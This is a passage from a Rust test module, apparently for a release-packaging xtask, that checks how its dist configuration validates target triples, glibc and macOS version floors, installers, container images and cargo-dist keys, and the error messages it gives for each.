            "formats": { "x86_64-pc-windows-gnu": ["deb"] }
        }));
        assert!(err.contains("Debian has no architecture"), "{err}");
    }

    #[test]
    fn typo_in_a_configured_triple_suggests_the_real_one() {
        let err = error_of(json!({ "package": "app", "targets": ["x86_64-unknown-linux-gnux"] }));
        assert!(err.contains("not a target triple rustc knows"), "{err}");
        assert!(
            err.contains("Did you mean `x86_64-unknown-linux-gnu`"),
            "{err}"
        );
    }

    #[test]
    fn triple_missing_from_the_table_says_where_to_add_it() {
        let err = error_of(json!({ "package": "app", "targets": ["sparc64-unknown-linux-gnu"] }));
        assert!(
            err.contains("KNOWN_TARGETS in xtask/src/targets/table.rs"),
            "{err}"
        );
    }

    #[test]
    fn missing_pieces_are_named() {
        assert!(
            error_of(json!({ "targets": ["x86_64-unknown-linux-gnu"] })).contains("needs `package")
        );
        assert!(
            error_of(json!({ "package": "nope", "targets": [] })).contains("no workspace member")
        );
        assert!(error_of(json!({ "package": "app", "targets": [] })).contains("has no `targets`"));
        let err = format!(
            "{:#}",
            Config::from_metadata(
                &json!({"workspace_root": "/", "target_directory": "/t", "packages": []}),
                &[],
                "x86_64-unknown-linux-gnu"
            )
            .unwrap_err()
        );
        assert!(err.contains("no [workspace.metadata.dist]"), "{err}");
    }

    #[test]
    fn glibc_floor_defaults_per_architecture_and_can_be_raised() {
        let config = load(json!({
            "package": "app",
            "targets": ["x86_64-unknown-linux-gnu", "x86_64-pc-windows-gnu"]
        }))
        .unwrap();
        assert_eq!(config.targets[0].glibc_floor, Some(Version::new(2, 17)));
        assert_eq!(config.targets[1].glibc_floor, None);
        let raised = load(json!({
            "package": "app",
            "targets": ["x86_64-unknown-linux-gnu"],
            "min-glibc": "2.28"
        }))
        .unwrap();
        assert_eq!(raised.targets[0].glibc_floor, Some(Version::new(2, 28)));
    }

    #[test]
    fn bad_glibc_floors_are_refused() {
        let err = error_of(json!({
            "package": "app",
            "targets": ["x86_64-unknown-linux-gnu"],
            "min-glibc": "2.x"
        }));
        assert!(
            err.contains("`min-glibc` is \"2.x\", which is not a glibc version"),
            "{err}"
        );
        let err = error_of(json!({
            "package": "app",
            "targets": ["x86_64-unknown-linux-gnu"],
            "min-glibc": "2.12"
        }));
        assert!(
            err.contains("needs glibc 2.17 or newer on x86_64-unknown-linux-gnu"),
            "{err}"
        );
        let err = error_of(json!({
            "package": "app",
            "targets": ["x86_64-unknown-linux-gnu"],
            "min-glibc": 2.28
        }));
        assert!(
            err.contains("`min-glibc` must be a glibc version, like \"2.28\""),
            "{err}"
        );
        assert!(err.contains("not floating point `2.28`"), "{err}");
    }

    #[test]
    fn macos_floor_defaults_per_architecture_can_be_raised_and_not_lowered() {
        let both = json!([
            "aarch64-apple-darwin",
            "x86_64-apple-darwin",
            "x86_64-unknown-linux-gnu"
        ]);
        let config = load(json!({ "package": "app", "targets": both })).unwrap();
        let floors: Vec<Option<Version>> = config.targets.iter().map(|t| t.macos_floor).collect();
        assert_eq!(
            floors,
            [Some(Version::new(11, 0)), Some(Version::new(10, 12)), None]
        );
        let raised =
            load(json!({ "package": "app", "targets": both, "min-macos": "12.0" })).unwrap();
        assert_eq!(raised.targets[1].macos_floor, Some(Version::new(12, 0)));
        let err = error_of(json!({ "package": "app", "targets": both, "min-macos": "10.15" }));
        assert!(
            err.contains("`min-macos` is 10.15, but Rust's standard library needs macOS 11.0 or newer on aarch64-apple-darwin"),
            "{err}"
        );
        let err = error_of(json!({ "package": "app", "targets": both, "min-macos": "twelve" }));
        assert!(
            err.contains("`min-macos` is \"twelve\", which is not a macOS version"),
            "{err}"
        );
        let err = error_of(json!({ "package": "app", "targets": both, "min-macos": 12 }));
        assert!(err.contains("`min-macos` must be a macOS version"), "{err}");
        assert!(err.contains("not integer `12`"), "{err}");
    }

    #[test]
    fn universal2_follows_the_macos_targets_and_is_refused_without_both() {
        let both = json!(["aarch64-apple-darwin", "x86_64-apple-darwin"]);
        assert!(
            load(json!({ "package": "app", "targets": both }))
                .unwrap()
                .universal2
        );
        let off = load(json!({ "package": "app", "targets": both, "universal2": false })).unwrap();
        assert!(!off.universal2);
        let one = json!(["aarch64-apple-darwin", "x86_64-unknown-linux-gnu"]);
        assert!(
            !load(json!({ "package": "app", "targets": one }))
                .unwrap()
                .universal2
        );
        let err = error_of(json!({ "package": "app", "targets": one, "universal2": true }));
        assert!(
            err.contains("asks for `universal2`") && err.contains("cargo xtask add-target"),
            "{err}"
        );
        let zip_only = json!({
            "package": "app", "targets": both, "universal2": true,
            "formats": { "x86_64-apple-darwin": ["zip"] }
        });
        assert!(error_of(zip_only).contains("not both configured with tar.gz"));
        let err = error_of(json!({ "package": "app", "targets": both, "universal2": "yes" }));
        assert!(
            err.contains("`universal2` must be true or false, not string \"yes\""),
            "{err}"
        );
    }

    /// `metadata` with two more members: `tools` (binaries `fetch` and
    /// `app`) and `docs` (a library only).
    fn with_more_packages(dist: Value) -> Result<Config> {
        let mut metadata = metadata(dist);
        let member = |name: &str, targets: Value| {
            json!({
                "name": name, "version": "0.3.0", "manifest_path": format!("/ws/{name}/Cargo.toml"),
                "targets": targets,
            })
        };
        let packages = metadata["packages"].as_array_mut().unwrap();
        packages.push(member(
            "tools",
            json!([{ "name": "fetch", "kind": ["bin"] }, { "name": "app", "kind": ["bin"] }]),
        ));
        packages.push(member("docs", json!([{ "name": "docs", "kind": ["lib"] }])));
        Config::from_metadata(&metadata, &rustc_targets(), "x86_64-unknown-linux-gnu")
    }

    #[test]
    fn several_packages_ship_each_binary_once() {
        let targets = json!(["x86_64-unknown-linux-gnu"]);
        let err = |dist: Value| format!("{:#}", with_more_packages(dist).unwrap_err());
        let said = err(json!({ "packages": ["app", "tools"], "targets": targets }));
        assert!(
            said.contains("`app` and `tools` both ship a binary named `app`"),
            "{said}"
        );
        let narrowed = json!({
            "packages": ["app", "tools"], "targets": targets, "bins": { "tools": ["fetch"] }
        });
        let config = with_more_packages(narrowed).unwrap();
        let shipped: Vec<(&str, &[String])> = config
            .packages
            .iter()
            .map(|package| (package.name.as_str(), package.bins.as_slice()))
            .collect();
        assert_eq!(
            shipped,
            [
                ("app", &["app".to_owned()][..]),
                ("tools", &["fetch".to_owned()][..])
            ]
        );
        assert_eq!(config.primary().name, "app");
        assert_eq!(config.packages[1].artifact_name(), "fetch");
        for (dist, needle) in [
            (
                json!({ "packages": ["app", "tols"], "targets": targets }),
                "no workspace member has that name. Did you mean `tools`",
            ),
            (
                json!({ "packages": ["app", "docs"], "targets": targets }),
                "package `docs` has no binary to ship",
            ),
            (
                json!({ "packages": ["app", "app"], "targets": targets }),
                "names package `app` twice",
            ),
            (
                json!({ "packages": [], "targets": targets }),
                "must be a list of package names",
            ),
            (
                json!({ "package": "app", "packages": ["app"], "targets": targets }),
                "both `package` and `packages`",
            ),
            (
                json!({ "packages": ["app", "tools"], "targets": targets, "bins": { "tools": ["fetc"] } }),
                "lists `fetc` for package `tools`, which has no such binary. Did you mean `fetch`?",
            ),
            (
                json!({ "packages": ["app", "tools"], "targets": targets, "bins": { "other": ["x"] } }),
                "narrows `other`, which is not a shipped package",
            ),
            (
                json!({ "packages": ["app", "tools"], "targets": targets, "bins": { "tools": [] } }),
                "must be a list of some of its binaries",
            ),
        ] {
            let said = err(dist);
            assert!(said.contains(needle), "{needle}: {said}");
        }
    }

    #[test]
    fn the_container_image_follows_the_static_linux_targets() {
        let musl = json!(["aarch64-unknown-linux-musl", "x86_64-pc-windows-gnu"]);
        assert!(
            load(json!({ "package": "app", "targets": musl }))
                .unwrap()
                .container_image
        );
        let off = json!({ "package": "app", "targets": musl, "container-image": false });
        assert!(!load(off).unwrap().container_image);
        let gnu = json!(["x86_64-unknown-linux-gnu"]);
        assert!(
            !load(json!({ "package": "app", "targets": gnu }))
                .unwrap()
                .container_image
        );
        let err = error_of(json!({ "package": "app", "targets": gnu, "container-image": true }));
        assert!(
            err.contains("asks for `container-image`")
                && err.contains("x86_64-unknown-linux-musl")
                && err.contains("cargo xtask add-target"),
            "{err}"
        );
        let zip_only = json!({
            "package": "app", "targets": musl, "container-image": true,
            "formats": { "aarch64-unknown-linux-musl": ["zip"] }
        });
        assert!(error_of(zip_only).contains("none is configured"));
        let err = error_of(json!({ "package": "app", "targets": musl, "container-image": 1 }));
        assert!(
            err.contains("`container-image` must be true or false, not integer `1`"),
            "{err}"
        );
    }

    #[test]
    fn sboms_are_on_unless_turned_off() {
        let targets = json!(["x86_64-unknown-linux-gnu"]);
        assert!(
            load(json!({ "package": "app", "targets": targets }))
                .unwrap()
                .sbom
        );
        let off = load(json!({ "package": "app", "targets": targets, "sbom": false })).unwrap();
        assert!(!off.sbom);
        let err = error_of(json!({ "package": "app", "targets": targets, "sbom": 1 }));
        assert!(
            err.contains("`sbom` must be true or false, not integer `1`"),
            "{err}"
        );
        // An SBOM is not a package format a target can be given.
        let err = error_of(json!({
            "package": "app", "targets": targets,
            "formats": { "x86_64-unknown-linux-gnu": ["cdx.json"] }
        }));
        assert!(err.contains("tar.gz, zip, deb"), "{err}");
    }

    #[test]
    fn unknown_keys_are_refused_with_the_closest_known_one() {
        let err = error_of(json!({
            "package": "app",
            "targets": ["x86_64-unknown-linux-gnu"],
            "formtas": {}
        }));
        assert!(
            err.contains("a key `formtas` the xtask does not know"),
            "{err}"
        );
        assert!(err.contains("Did you mean `formats`?"), "{err}");
        let err = error_of(json!({
            "package": "app",
            "targets": ["x86_64-unknown-linux-gnu"],
            "ci-runner": { "x86_64-unknown-linux-gnux": "ubuntu-latest" }
        }));
        assert!(
            err.contains("names `x86_64-unknown-linux-gnux`, which is not in `targets`"),
            "{err}"
        );
        assert!(
            err.contains("Did you mean `x86_64-unknown-linux-gnu`?"),
            "{err}"
        );
    }

    #[test]
    fn values_of_the_wrong_type_are_refused() {
        let err = error_of(json!({ "package": "app", "targets": ["x86_64-unknown-linux-gnu", 7] }));
        assert!(
            err.contains("`targets` must be a list of target triples"),
            "{err}"
        );
        let err = error_of(json!({
            "package": "app",
            "targets": ["x86_64-unknown-linux-gnu"],
            "formats": ["zip"]
        }));
        assert!(err.contains("`formats` must be a table"), "{err}");
        let err = error_of(json!({
            "package": "app",
            "targets": ["x86_64-unknown-linux-gnu"],
            "include": "README.md"
        }));
        assert!(err.contains("`include` must be a list"), "{err}");
    }

    #[test]
    fn included_files_that_share_an_archive_name_are_refused() {
        let err = error_of(json!({
            "package": "app",
            "targets": ["x86_64-unknown-linux-gnu"],
            "include": ["README.md", "docs/README.md"]
        }));
        assert!(
            err.contains("lists README.md and docs/README.md, which would both be README.md"),
            "{err}"
        );
    }

    #[test]
    fn duplicates_are_refused() {
        let err = error_of(
            json!({ "package": "app", "targets": ["x86_64-unknown-linux-gnu", "x86_64-unknown-linux-gnu"] }),
        );
        assert!(err.contains("listed twice"), "{err}");
    }

    #[test]
    fn formats_for_unconfigured_targets_are_refused() {
        let err = error_of(json!({
            "package": "app",
            "targets": ["x86_64-unknown-linux-gnu"],
            "formats": { "aarch64-unknown-linux-gnu": ["tar.gz"] }
        }));
        assert!(err.contains("not in `targets`"), "{err}");
    }

    /// The configuration cargo-dist writes into Cargo.toml (the keys of
    /// `dist init`), beside this tool's `package`: its keys with a meaning
    /// here are read, the others set aside, each with its reason.
    #[test]
    fn cargo_dist_keys_are_honoured_or_set_aside_with_the_reason() {
        let config = load(json!({
            "package": "app",
            "cargo-dist-version": "0.28.0",
            "ci": "github",
            "installers": ["shell", "homebrew"],
            "targets": ["x86_64-unknown-linux-gnu", "aarch64-unknown-linux-gnu"],
            "pr-run-mode": "plan",
            "install-updater": false,
            "precise-builds": true,
        }))
        .unwrap();
        assert_eq!(
            config.installers,
            [Format::ShellInstaller, Format::HomebrewFormula]
        );
        assert_eq!(config.targets.len(), 2);
        let ignored: Vec<&str> = config.ignored.iter().map(|key| key.key).collect();
        assert_eq!(
            ignored,
            [
                "cargo-dist-version",
                "ci",
                "install-updater",
                "pr-run-mode",
                "precise-builds"
            ]
        );
        let said = config.ignored[1].to_string();
        assert_eq!(
            said,
            "[workspace.metadata.dist] `ci` is cargo-dist's, and ignored here: `cargo xtask init` \
             writes the CI pipeline, and `plan` plans it"
        );
    }

    #[test]
    fn an_installer_this_tool_lacks_is_refused_with_what_to_use() {
        let err = error_of(json!({
            "package": "app",
            "installers": ["shell", "powershell"],
            "targets": ["x86_64-unknown-linux-gnu", "x86_64-pc-windows-gnu"],
        }));
        assert!(
            err.contains("names `powershell`, cargo-dist's PowerShell script"),
            "{err}"
        );
        assert!(err.contains("\"scoop\", \"winget\""), "{err}");
        let msi = load(json!({
            "package": "app",
            "installers": ["msi", "scoop"],
            "targets": ["x86_64-pc-windows-gnu"],
        }))
        .unwrap();
        assert_eq!(msi.installers, [Format::ScoopManifest]);
        assert!(msi.targets[0].formats.contains(&Format::Msi));
    }

    /// rv's dist-workspace.toml, as cargo-dist 0.30.3 wrote it (the
    /// fixture names its source), read beside this tool's `package` in
    /// Cargo.toml: its targets are the release's, and its PowerShell
    /// installer is refused by name.
    #[test]
    fn a_dist_workspace_toml_written_by_cargo_dist_is_read() {
        let fixture = include_str!("fixtures/rv-dist-workspace.toml");
        let root = crate::util::tempdir::TempDir::new().unwrap();
        let write = |text: &str| std::fs::write(root.path().join("dist-workspace.toml"), text);
        let mut metadata = metadata(json!({ "package": "app" }));
        metadata["workspace_root"] = json!(root.path());
        let known: Vec<String> = crate::targets::KNOWN_TARGETS
            .iter()
            .map(|spec| spec.triple.to_owned())
            .collect();
        let read =
            |metadata: &Value| Config::from_metadata(metadata, &known, "x86_64-unknown-linux-gnu");
        write(fixture).unwrap();
        let err = format!("{:#}", read(&metadata).unwrap_err());
        assert!(err.contains("names `powershell`"), "{err}");
        write(&fixture.replace(", \"powershell\"", "")).unwrap();
        let config = read(&metadata).unwrap();
        let triples: Vec<&str> = config.targets.iter().map(Configured::triple).collect();
        assert_eq!(triples[0], "aarch64-apple-darwin");
        assert_eq!(triples.len(), 8);
        assert_eq!(config.installers, [Format::ShellInstaller]);
        let ignored: Vec<&str> = config.ignored.iter().map(|key| key.key).collect();
        for key in [
            "cargo-dist-version",
            "ci",
            "install-path",
            "macos-sign",
            "binaries",
        ] {
            assert!(ignored.contains(&key), "{key}: {ignored:?}");
        }
        // Cargo.toml's table wins where both set a key.
        metadata["metadata"]["dist"]["targets"] = json!(["x86_64-unknown-linux-gnu"]);
        assert_eq!(read(&metadata).unwrap().targets.len(), 1);
    }

    #[test]
    fn selection_names_what_is_wrong() {
        let config =
            load(json!({ "package": "app", "targets": ["x86_64-unknown-linux-gnu"] })).unwrap();
        let rustc = rustc_targets();
        assert_eq!(config.select(&[], &rustc).unwrap().len(), 1);
        let nonsense = config
            .select(&["nonsense".into()], &rustc)
            .unwrap_err()
            .to_string();
        assert!(
            nonsense.contains("not a target triple rustc knows"),
            "{nonsense}"
        );
        let unconfigured = config
            .select(&["aarch64-unknown-linux-gnu".into()], &rustc)
            .unwrap_err()
            .to_string();
        assert!(
            unconfigured.contains("not a configured target"),
            "{unconfigured}"
        );
    }
}
